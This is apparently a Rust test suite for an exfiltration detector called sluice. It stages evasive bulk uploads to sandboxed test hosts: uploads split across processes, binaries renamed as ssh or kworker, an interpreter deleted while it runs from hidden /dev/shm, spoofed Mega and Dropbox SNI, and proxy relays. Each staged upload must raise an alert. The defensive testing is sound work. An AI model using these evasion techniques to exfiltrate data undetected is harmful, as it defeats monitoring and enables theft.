//! The first things an attacker who has read the README tries, end to end on
//! this host's kernel (the cgroup backend) with the default configuration and
//! a fresh state: every case must alert, and the benign suite at the end must
//! not. The uploads go to test hosts in network namespaces; each command the
//! test runs is a job of its own (`run_child`), as a shell would start it.

use std::{
    os::unix::process::CommandExt,
    path::{Path, PathBuf},
    process::Command,
    time::Duration,
};

use serde_json::Value;
use sluice_tests::*;

const ALERTS: &[&str] = &["--tick", "1s", "--probe", "cgroup"];
const MIB: u64 = 1024 * 1024;

fn upload_py() -> String {
    fixture("upload.py").to_string_lossy().into_owned()
}

/// A copy of `src` named `name` in a directory outside /tmp (so only what the
/// test means is suspicious about it), removed on drop.
struct Installed {
    dir: PathBuf,
    pub path: PathBuf,
}

impl Installed {
    fn copy(src: &Path, name: &str) -> Installed {
        static SEQ: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let seq = SEQ.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        let dir = workspace().join("target/evasion-bin").join(format!("{}-{seq}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join(name);
        std::fs::copy(src, &path).unwrap();
        Installed { dir, path }
    }
}

impl Drop for Installed {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// The first alert of `rule` whose record satisfies `pred`, waited for.
fn alert_where(sluice: &Sluice, rule: &str, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
    let recs = sluice
        .wait_for(what, Duration::from_secs(30), |r| alerts_of(r, rule).into_iter().any(&pred))
        .unwrap();
    alerts_of(&recs, rule).into_iter().find(|a| pred(a)).unwrap().clone()
}

fn reason(a: &Value) -> &str {
    a["event"]["reason"].as_str().unwrap_or("")
}

fn indicators(a: &Value) -> Vec<String> {
    a["sluice"]["indicators"].as_array().map(|v| v.iter().filter_map(|i| i.as_str().map(str::to_string)).collect()).unwrap_or_default()
}

#[test]
fn an_upload_split_over_30_processes_with_different_command_lines_alerts_as_one_job() {
    require_root();
    let host = TestHost::create().unwrap();
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &["30"]).unwrap();
    let sluice = Sluice::start(ALERTS).unwrap();
    // 30 python3 children of one driver, 10 MiB each (each far under any floor).
    let each = (10 * MIB).to_string();
    let driver = run_child(
        Command::new("/usr/bin/python3").args([upload_py().as_str(), "split", "30", &each, &host.peer_v4, &port.to_string()]),
        Duration::from_secs(180),
    )
    .unwrap();
    assert_eq!(sink.received().unwrap(), 300 * MIB);
    let a = alert_where(&sluice, "sluice.bulk_upload", "the job's bulk alert", |a| a["sluice"]["job"]["pid"] == driver);
    sluice.stop().unwrap();
    assert!(a["sluice"]["bytes_out"].as_u64().unwrap() >= 100 * MIB, "{a}");
    assert_ne!(a["process"]["pid"], driver, "a child carried the bytes: {a}");
    assert!(indicators(&a).iter().any(|i| i == "level: job"), "{a}");
    assert!(reason(&a).starts_with(&format!("`/usr/bin/python3 {} split 30", upload_py())) && reason(&a).contains("this job sent"), "{}", reason(&a));
}

#[test]
fn an_upload_carried_by_an_ssh_child_names_the_command_and_the_carrier() {
    require_root();
    let host = TestHost::create().unwrap();
    let ssh = Installed::copy(&helper_bin("netload"), "ssh");
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
    let sluice = Sluice::start(ALERTS).unwrap();
    let bytes = (150 * MIB).to_string();
    let job = run_child(
        Command::new("/usr/bin/python3")
            .args([upload_py().as_str(), "via"])
            .arg(&ssh.path)
            .args(["send", &host.peer_v4, &port.to_string(), &bytes]),
        Duration::from_secs(120),
    )
    .unwrap();
    assert_eq!(sink.received().unwrap(), 150 * MIB);
    let a = alert_where(&sluice, "sluice.bulk_upload", "the bulk alert", |a| a["sluice"]["job"]["pid"] == job);
    sluice.stop().unwrap();
    assert_eq!(a["process"]["name"], "ssh", "{a}");
    assert_eq!(a["destination"]["ip"], host.peer_v4.as_str());
    let r = reason(&a);
    assert!(r.starts_with("`/usr/bin/python3 ") && r.contains(&format!("(pid {job}) through ssh")), "{r}");
}

#[test]
fn a_deleted_interpreter_in_a_hidden_shm_directory_named_like_a_kernel_thread_alerts() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = PathBuf::from(format!("/dev/shm/.sluice-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let exe = dir.join("kworker");
    std::fs::copy("/usr/bin/python3", &exe).unwrap();
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
    let sluice = Sluice::start(ALERTS).unwrap();
    let mut cmd = Command::new(&exe);
    cmd.arg0("[kworker/0:1]")
        .env("PYTHONHOME", "/usr")
        .args([upload_py().as_str(), "send", &host.peer_v4, &port.to_string(), &(30 * MIB).to_string(), "--linger", "3", "--after-gone"])
        .arg(&exe)
        .process_group(0)
        .stdin(std::process::Stdio::null());
    let mut child = KillOnDrop(cmd.spawn().unwrap());
    let pid = child.0.id();
    // Deleted once it runs: the file is gone, the program is not.
    std::thread::sleep(Duration::from_millis(300));
    std::fs::remove_dir_all(&dir).unwrap();
    assert!(child.0.wait().unwrap().success());
    assert_eq!(sink.received().unwrap(), 30 * MIB);
    let a = alert_where(&sluice, "sluice.suspicious_origin_upload", "the origin alert", |a| a["process"]["pid"] == pid);
    sluice.stop().unwrap();
    let r = reason(&a);
    for want in ["memory-backed /dev/shm", "hidden directory", "deleted while it runs", "kernel thread"] {
        assert!(r.contains(want), "{want}: {r}");
    }
    assert_eq!(a["event"]["severity"], 73);
}

#[test]
fn control_characters_in_a_mega_clients_name_do_not_hide_it() {
    require_root();
    let host = TestHost::create().unwrap();
    let tool = Installed::copy(Path::new("/usr/bin/python3"), "mega-put\n\x1b[31m\"");
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
    let sluice = Sluice::start(ALERTS).unwrap();
    let pid = run_child(
        Command::new(&tool.path).env("PYTHONHOME", "/usr").args([upload_py().as_str(), "send", &host.peer_v4, &port.to_string(), &(20 * MIB).to_string()]),
        Duration::from_secs(60),
    )
    .unwrap();
    assert_eq!(sink.received().unwrap(), 20 * MIB);
    let a = alert_where(&sluice, "sluice.exfil_tool_upload", "the Mega rule", |a| a["process"]["pid"] == pid);
    let recs = sluice.stop().unwrap();
    let ind = indicators(&a);
    assert!(ind.iter().any(|i| i == "tool: MEGAcmd"), "{ind:?}");
    assert!(ind.iter().any(|i| i.contains("control characters")), "{ind:?}");
    assert!(alerts_of(&recs, "sluice.exfil_tool_exec").iter().any(|e| e["process"]["pid"] == pid), "the exec was an event too");
}

#[test]
fn two_archive_chains_in_one_script_are_two_alerts_naming_the_uploaders() {
    require_root();
    let host = TestHost::create().unwrap();
    let data = TempDir::new("chains");
    for part in ["a", "b"] {
        std::fs::create_dir_all(data.0.join(part)).unwrap();
        std::fs::write(data.0.join(part).join("ledger.db"), incompressible(3_000_000, part.len() as u64 + 40)).unwrap();
    }
    // A renamed Mega client (talks to a Mega transfer node by SNI) uploads first.
    let mega = Installed::copy(&helper_bin("netload"), "syncd");
    let ports = [free_port(), free_port(), free_port()];
    let sinks: Vec<Sink> = ports.iter().map(|p| Sink::start(Some(&host), "tcp", &host.peer_v4, *p, &[]).unwrap()).collect();
    let sluice = Sluice::start(ALERTS).unwrap();
    let (h, py) = (&host.peer_v4, upload_py());
    let script = format!(
        "set -e\n'{}' tls {h} {} gfs208n140.userstorage.mega.co.nz 3000000\n\
         tar cf - -C '{d}' a | /usr/bin/python3 '{py}' stdin {h} {}\n\
         tar cf - -C '{d}' b | /usr/bin/python3 '{py}' stdin {h} {}\n",
        mega.path.display(),
        ports[0],
        ports[1],
        ports[2],
        d = data.0.display()
    );
    let shell = run_child(Command::new("/bin/sh").args(["-c", &script]), Duration::from_secs(120)).unwrap();
    for s in &sinks {
        assert!(s.received().unwrap() >= 3_000_000);
    }
    sluice.wait_for("two chains", Duration::from_secs(30), |r| alerts_of(r, "sluice.archive_then_upload").len() >= 2).unwrap();
    std::thread::sleep(Duration::from_secs(2));
    let recs = sluice.stop().unwrap();
    let chains = alerts_of(&recs, "sluice.archive_then_upload");
    let carriers: Vec<u64> = chains.iter().map(|a| a["process"]["pid"].as_u64().unwrap()).collect();
    assert!(carriers.len() == 2 && carriers[0] != carriers[1], "one alert per chain: {chains:?}");
    for a in &chains {
        assert_eq!(a["process"]["name"], "python3", "the uploader carried the archive, not the Mega client: {a}");
        assert_eq!(a["sluice"]["job"]["pid"], shell, "{a}");
    }
    assert!(reason(chains[0]).contains(" a` (pid") && reason(chains[1]).contains(" b` (pid"), "{chains:?}");
}

#[test]
fn an_allowlisted_backup_covers_its_ssh_helper_and_nothing_else() {
    require_root();
    let host = TestHost::create().unwrap();
    let backup = Installed::copy(Path::new("/bin/sh"), "backup-agent");
    let other = Installed::copy(Path::new("/bin/sh"), "other-agent");
    let ssh = Installed::copy(&helper_bin("netload"), "ssh");
    let config = TempDir::new("allow");
    let file = config.0.join("sluice.toml");
    std::fs::write(&file, format!("[detect]\nallow_executables = [\"{}\"]\n", backup.path.display())).unwrap();
    let sluice = Sluice::start(&[ALERTS, &["--config", file.to_str().unwrap()]].concat()).unwrap();
    let run = |agent: &Path, bytes: u64| {
        let port = free_port();
        let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
        // `; true` keeps the shell from exec'ing its last command: ssh is its child.
        let line = format!("'{}' send {} {port} {bytes}; true", ssh.path.display(), host.peer_v4);
        let pid = run_child(Command::new(agent).args(["-c", &line]), Duration::from_secs(120)).unwrap();
        assert_eq!(sink.received().unwrap(), bytes);
        pid
    };
    let allowed = run(&backup.path, 150 * MIB);
    let control = run(&other.path, 110 * MIB);
    alert_where(&sluice, "sluice.bulk_upload", "the control's alert", |a| a["sluice"]["job"]["pid"] == control);
    std::thread::sleep(Duration::from_secs(2));
    let recs = sluice.stop().unwrap();
    let about_allowed: Vec<&Value> = recs.iter().filter(|r| r["event"]["kind"] == "alert" && r["sluice"]["job"]["pid"] == allowed).collect();
    assert!(about_allowed.is_empty(), "the allowlisted backup's helper alerted: {about_allowed:?}");
}

#[test]
fn a_mega_client_that_only_talks_to_its_api_is_an_event_at_exec() {
    require_root();
    let host = TestHost::create().unwrap();
    let tool = Installed::copy(&helper_bin("netload"), "megaput");
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
    let sluice = Sluice::start(ALERTS).unwrap();
    let pid = run_child(Command::new(&tool.path).args(["send", &host.peer_v4, &port.to_string(), "400"]), Duration::from_secs(30)).unwrap();
    assert_eq!(sink.received().unwrap(), 400);
    let e = alert_where(&sluice, "sluice.exfil_tool_exec", "the exec event", |a| a["process"]["pid"] == pid);
    sluice.stop().unwrap();
    assert_eq!(e["event"]["severity"], 21);
    assert!(e.get("destination").is_none(), "no destination before any byte: {e}");
    assert!(reason(&e).contains("megatools") && reason(&e).contains("started"), "{}", reason(&e));
}

#[test]
fn bulk_to_a_storage_service_named_by_sni_alerts_on_a_fresh_install() {
    require_root();
    let host = TestHost::create().unwrap();
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
    let sluice = Sluice::start(ALERTS).unwrap();
    let pid = run_child(
        Command::new(helper_bin("netload")).args(["tls", &host.peer_v4, &port.to_string(), "content.dropboxapi.com", &(60 * MIB).to_string()]),
        Duration::from_secs(60),
    )
    .unwrap();
    assert!(sink.received().unwrap() >= 60 * MIB);
    let a = alert_where(&sluice, "sluice.storage_upload", "the storage alert", |a| a["process"]["pid"] == pid);
    sluice.stop().unwrap();
    assert_eq!(a["destination"]["domain"], "content.dropboxapi.com");
    assert!(reason(&a).contains("Dropbox"), "{}", reason(&a));
}


#[test]
fn an_upload_started_before_sluice_in_another_network_namespace_is_attributed_and_judged() {
    require_root();
    let host = TestHost::create().unwrap();
    let port = free_port();
    // The sink on this side; the uploader inside the test host's namespace (a
    // pod after a DaemonSet rollout), already sending when sluice starts.
    let sink = Sink::start(None, "tcp", &host.local_v4, port, &[]).unwrap();
    let mut up = host.command("/usr/bin/python3");
    up.args([upload_py().as_str(), "send", &host.local_v4, &port.to_string(), &(300 * MIB).to_string(), "--rate", "30000000"])
        .process_group(0)
        .stdout(std::process::Stdio::null());
    let mut uploader = KillOnDrop(up.spawn().unwrap());
    let pid = uploader.0.id();
    std::thread::sleep(Duration::from_millis(1500));
    let sluice = Sluice::start(&["--tick", "1s", "--probe", "cgroup", "--emit", "all"]).unwrap();
    let a = alert_where(&sluice, "sluice.bulk_upload", "the bulk alert for the old socket", |a| a["process"]["pid"] == pid);
    assert!(uploader.0.wait().unwrap().success());
    assert_eq!(sink.received().unwrap(), 300 * MIB);
    let recs = sluice.stop().unwrap();
    assert_eq!(a["process"]["name"], "python3", "{a}");
    let flows: Vec<&Value> = recs.iter().filter(|r| r["event"]["action"] == "flow-summary" && r["process"]["pid"] == pid).collect();
    assert!(!flows.is_empty() && flows.iter().all(|f| f["sluice"]["attribution"] == "procfs"), "{flows:?}");
    assert!(flows.iter().all(|f| f["network"]["direction"] == "egress"), "{flows:?}");
}

/// The python forward proxy (CONNECT, SOCKS4/4a/5) on a free loopback port,
/// resolving names from `table` (NAME=IP), running once it says so.
fn local_proxy(table: &[String]) -> (KillOnDrop, u16) {
    let port = free_port();
    let mut cmd = Command::new("/usr/bin/python3");
    cmd.arg(fixture("proxy.py"))
        .arg(port.to_string())
        .args(table)
        .stdout(std::process::Stdio::piped())
        .process_group(0);
    let mut proxy = cmd.spawn().unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(proxy.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    assert_eq!(line.trim(), "ready", "proxy.py did not start");
    (KillOnDrop(proxy), port)
}

#[test]
fn an_upload_through_a_local_connect_proxy_is_the_clients_with_the_proxy_as_carrier() {
    require_root();
    let host = TestHost::create().unwrap();
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &["2"]).unwrap();
    let (proxy, proxy_port) = local_proxy(&[format!("upload.example.net={}", host.peer_v4)]);
    let proxy_pid = proxy.0.id();
    let sluice = Sluice::start(ALERTS).unwrap();
    // Two clients at once through the one proxy to one target: one uploads
    // 150 MiB, the other sends 100 KB.
    let client = |bytes: u64| {
        let mut c = Command::new("/usr/bin/python3");
        c.args([upload_py().as_str(), "proxied", &proxy_port.to_string(), "upload.example.net", &port.to_string(), &bytes.to_string()])
            .process_group(0)
            .stdout(std::process::Stdio::null());
        KillOnDrop(c.spawn().unwrap())
    };
    let (mut quiet, mut loud) = (client(100_000), client(150 * MIB));
    let (quiet_pid, loud_pid) = (quiet.0.id(), loud.0.id());
    assert!(loud.0.wait().unwrap().success() && quiet.0.wait().unwrap().success());
    assert_eq!(sink.received().unwrap(), 150 * MIB + 100_000);
    let a = alert_where(&sluice, "sluice.bulk_upload", "the client's alert", |a| a["process"]["pid"] == loud_pid);
    std::thread::sleep(Duration::from_secs(2));
    let recs = sluice.stop().unwrap();
    drop(proxy);
    let r = reason(&a);
    assert!(r.contains("upload.example.net") && r.contains(&format!("through the local proxy python3 (pid {proxy_pid})")), "{r}");
    assert_eq!(a["destination"]["ip"], host.peer_v4.as_str());
    let others: Vec<&Value> = recs.iter().filter(|r| r["event"]["kind"] == "alert" && (r["process"]["pid"] == proxy_pid || r["process"]["pid"] == quiet_pid)).collect();
    assert!(others.is_empty(), "the proxy or the idle client was blamed: {others:?}");
}

#[test]
fn uploads_through_a_local_socks_proxy_are_the_clients_with_the_proxy_as_carrier() {
    require_root();
    let host = TestHost::create().unwrap();
    let (http_port, tcp_port) = (free_port(), free_port());
    let sink = Sink::start(Some(&host), "http", &host.peer_v4, http_port, &[]).unwrap();
    let other_sink = Sink::start(Some(&host), "tcp", &host.peer_v4, tcp_port, &[]).unwrap();
    let (proxy, proxy_port) = local_proxy(&[
        format!("upload.example.net={}", host.peer_v4),
        format!("drop.example.org={}", host.peer_v4),
    ]);
    let proxy_pid = proxy.0.id();
    let dir = TempDir::new("socks");
    let file = dir.0.join("archive.bin");
    std::fs::write(&file, vec![0x5a; 150 * MIB as usize]).unwrap();
    let sluice = Sluice::start(ALERTS).unwrap();
    // At the same time through the one proxy: curl over SOCKS5 with the name
    // sent to the proxy (socks5h), and a SOCKS4a client to another name.
    let mut curl = Command::new("curl");
    curl.args([
        "-sS",
        "--max-time",
        "120",
        "-o",
        "/dev/null",
        "--socks5-hostname",
        &format!("127.0.0.1:{proxy_port}"),
        "-T",
    ])
    .arg(&file)
    .arg(format!("http://upload.example.net:{http_port}/up"))
    .process_group(0);
    let mut curl = KillOnDrop(curl.spawn().unwrap());
    let mut py = Command::new("/usr/bin/python3");
    py.args([
        upload_py().as_str(),
        "socks4a",
        &proxy_port.to_string(),
        "drop.example.org",
        &tcp_port.to_string(),
        &(120 * MIB).to_string(),
    ])
    .process_group(0)
    .stdout(std::process::Stdio::null());
    let mut py = KillOnDrop(py.spawn().unwrap());
    let (curl_pid, py_pid) = (curl.0.id(), py.0.id());
    assert!(curl.0.wait().unwrap().success() && py.0.wait().unwrap().success());
    assert_eq!(
        (sink.received().unwrap(), other_sink.received().unwrap()),
        (150 * MIB, 120 * MIB)
    );
    let by_curl = alert_where(&sluice, "sluice.bulk_upload", "curl's alert", |a| {
        a["process"]["pid"] == curl_pid
    });
    let by_py = alert_where(
        &sluice,
        "sluice.bulk_upload",
        "the SOCKS4a client's alert",
        |a| a["process"]["pid"] == py_pid,
    );
    std::thread::sleep(Duration::from_secs(2));
    let recs = sluice.stop().unwrap();
    drop(proxy);
    let carrier = format!("through the local proxy python3 (pid {proxy_pid})");
    for (a, name, target) in [
        (&by_curl, "curl", "upload.example.net"),
        (&by_py, "python3", "drop.example.org"),
    ] {
        let r = reason(a);
        assert_eq!(a["process"]["name"], name, "{a}");
        assert!(
            r.contains(target) && r.contains(&carrier) && r.contains("a SOCKS request"),
            "{r}"
        );
        assert_eq!(a["destination"]["ip"], host.peer_v4.as_str());
    }
    let blamed: Vec<&Value> = recs
        .iter()
        .filter(|r| r["event"]["kind"] == "alert" && r["process"]["pid"] == proxy_pid)
        .collect();
    assert!(blamed.is_empty(), "the proxy was blamed: {blamed:?}");
}

fn git(args: &[&str], cwd: &Path) {
    let out = Command::new("git")
        .args(args)
        .current_dir(cwd)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@t")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@t")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn a_fresh_install_stays_quiet_on_ordinary_work() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = TempDir::new("quiet");
    std::fs::File::create(dir.0.join("big.iso")).unwrap().set_len(300 * MB).unwrap();
    let backup = Installed::copy(Path::new("/bin/sh"), "backup-agent");
    let ssh = Installed::copy(&helper_bin("netload"), "ssh");
    let config = dir.0.join("sluice.toml");
    std::fs::write(&config, format!("[detect]\nallow_executables = [\"{}\"]\n", backup.path.display())).unwrap();
    let sluice = Sluice::start(&[ALERTS, &["--config", config.to_str().unwrap()]].concat()).unwrap();

    // 1. A 300 MB download from the test host.
    let port = free_port();
    let _remote = http_server(host.command("/usr/bin/python3"), &host.peer_v4, port, &dir.0);
    let url = format!("http://{}:{}/big.iso", host.peer_v4, port);
    assert!(retry(Duration::from_secs(20), || fetch(Command::new("/usr/bin/curl"), &url)), "download failed");

    // 2. A local server answering 200 MB (the test host downloads from us).
    std::fs::File::create(dir.0.join("served.bin")).unwrap().set_len(200 * MB).unwrap();
    let port = free_port();
    let _local = http_server(Command::new("/usr/bin/python3"), &host.local_v4, port, &dir.0);
    let url = format!("http://{}:{}/served.bin", host.local_v4, port);
    assert!(retry(Duration::from_secs(20), || fetch(host.command("/usr/bin/curl"), &url)), "the test host could not download");

    // 3. 100 small uploads (100 KB each) from one job.
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &["100"]).unwrap();
    run_child(Command::new("/usr/bin/python3").args([upload_py().as_str(), "many", "100", "100000", &host.peer_v4, &port.to_string()]), Duration::from_secs(120))
        .unwrap();
    assert_eq!(sink.received().unwrap(), 10_000_000);

    // 4. A 50 MB git push to a git daemon on the test host.
    let served = dir.0.join("served.git");
    git(&["init", "-q", "--bare", served.to_str().unwrap()], &dir.0);
    let repo = dir.0.join("work");
    std::fs::create_dir_all(&repo).unwrap();
    git(&["init", "-q"], &repo);
    std::fs::write(repo.join("data.bin"), incompressible(50_000_000, 5)).unwrap();
    git(&["add", "."], &repo);
    git(&["commit", "-qm", "data"], &repo);
    let port = free_port();
    // git-daemon itself (not `git daemon`, which forks it and would leave it
    // behind when killed).
    let exec_path = Command::new("git").arg("--exec-path").output().unwrap();
    let git_daemon = format!("{}/git-daemon", String::from_utf8_lossy(&exec_path.stdout).trim());
    let _daemon = KillOnDrop(
        host.command(&git_daemon)
            .args(["--reuseaddr", "--export-all", "--enable=receive-pack", &format!("--listen={}", host.peer_v4), &format!("--port={port}")])
            .arg(format!("--base-path={}", dir.0.display()))
            .arg(&dir.0)
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    let remote = format!("git://{}:{port}/served.git", host.peer_v4);
    let pushed = retry(Duration::from_secs(20), || {
        Command::new("git").args(["push", "-q", &remote, "HEAD:refs/heads/main"]).current_dir(&repo).status().is_ok_and(|s| s.success())
    });
    assert!(pushed, "git push to the test host failed");

    // 5. The allowlisted backup sending 150 MiB through its ssh helper.
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
    let line = format!("'{}' send {} {port} {}; true", ssh.path.display(), host.peer_v4, 150 * MIB);
    run_child(Command::new(&backup.path).args(["-c", &line]), Duration::from_secs(120)).unwrap();
    assert_eq!(sink.received().unwrap(), 150 * MIB);

    std::thread::sleep(Duration::from_secs(3));
    let recs = sluice.stop().unwrap();
    let alerts: Vec<&Value> = recs.iter().filter(|r| r["event"]["kind"] == "alert").collect();
    assert!(alerts.is_empty(), "ordinary work raised alerts: {alerts:#?}");
}
